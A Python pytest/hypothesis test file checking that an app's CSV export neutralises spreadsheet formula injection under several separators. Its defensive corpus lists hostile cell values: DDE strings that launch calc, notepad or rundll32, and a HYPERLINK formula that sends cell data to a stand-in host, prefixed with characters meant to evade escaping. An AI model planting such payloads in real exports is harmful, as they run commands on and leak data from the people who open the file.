"""No text that goes into a table becomes a formula, whichever separator the spreadsheet takes for its own."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.tables import Cell, safe_cell, write_csv

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u202e=",
    "\uff1d",
    "\uff0b",
    "\uff20",
)
ACTS = (
    "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"Prize")', "IMPORTXML(A1,B1)",
    "DDE(0;1;2)", "WEBSERVICE(A1)", "2+5+cmd|' /C notepad'!A0", "rundll32|'URL.dll,OpenURL x'!A", "0x41",
)  # fmt: skip
INSIDE = ("Ana;", "Ana\t", "Ana\n", "Ana\r\n", 'Ana"";', "Ana,")
CORPUS = [
    *(start + act for start, act in product(STARTS, ACTS)),
    *(before + sign + act for before, sign, act in product(INSIDE, "=+-@", ACTS)),
]
SIGNS = frozenset("=+-@\t\r\n|%")


def cells_of(data: bytes, separator: str) -> list[str]:
    """Every cell below the head, as a spreadsheet with this separator parts them."""
    text = data.decode("utf-8")
    return [cell for row in list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))[1:] for cell in row]


def test_the_corpus_is_worth_its_name() -> None:
    assert len(set(CORPUS)) >= 200


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_the_corpus_is_a_formula_when_the_table_is_opened_again(separator: str) -> None:
    data = write_csv([{"number": 7, "name": text} for text in CORPUS], ["number", "name"])

    found = [cell for cell in cells_of(data, separator) if cell[:1] in SIGNS]

    assert found == []


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=30), min_size=1, max_size=5))
def test_no_text_at_all_becomes_a_formula(texts: list[str]) -> None:
    data = write_csv([[text, 1] for text in texts], ["name", "n"])

    for separator in ",;":
        assert [cell for cell in cells_of(data, separator) if cell[:1] in SIGNS] == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"), (Decimal("-0.0000001"), "-0.0000001"), (Decimal("1E+3"), "1000"), (True, "yes"), (None, ""),
        (date(2026, 3, 2), "2026-03-02"), (datetime(2026, 3, 2, 13, 7, tzinfo=UTC), "2026-03-02T13:07:00+00:00"),
        ("Ana Moreno", "Ana Moreno"), ("", ""), ("B12-04-C", "B12-04-C"), ("-5", "'-5"), ("a\0b", "ab"),
    ],
)  # fmt: skip
def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value: Cell, written: str) -> None:
    assert safe_cell(value) == written


def test_what_is_read_again_is_what_was_written_where_nothing_was_harmful() -> None:
    data = write_csv([["Zieliński, Piotr", 'the "best"', 3], ["a\nb", "ü", 4]], ["name", "said", "n"])

    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))

    assert rows == [["name", "said", "n"], ["Zieliński, Piotr", 'the "best"', "3"], ["a\nb", "ü", "4"]]
    assert data.count(b"\r\n") == 3


def test_a_row_that_does_not_fit_its_head_is_a_bug_and_said_so() -> None:
    with pytest.raises(ValueError, match="a row of 1 cells in a table of 2 columns"):
        write_csv([["a"]], ["a", "b"])
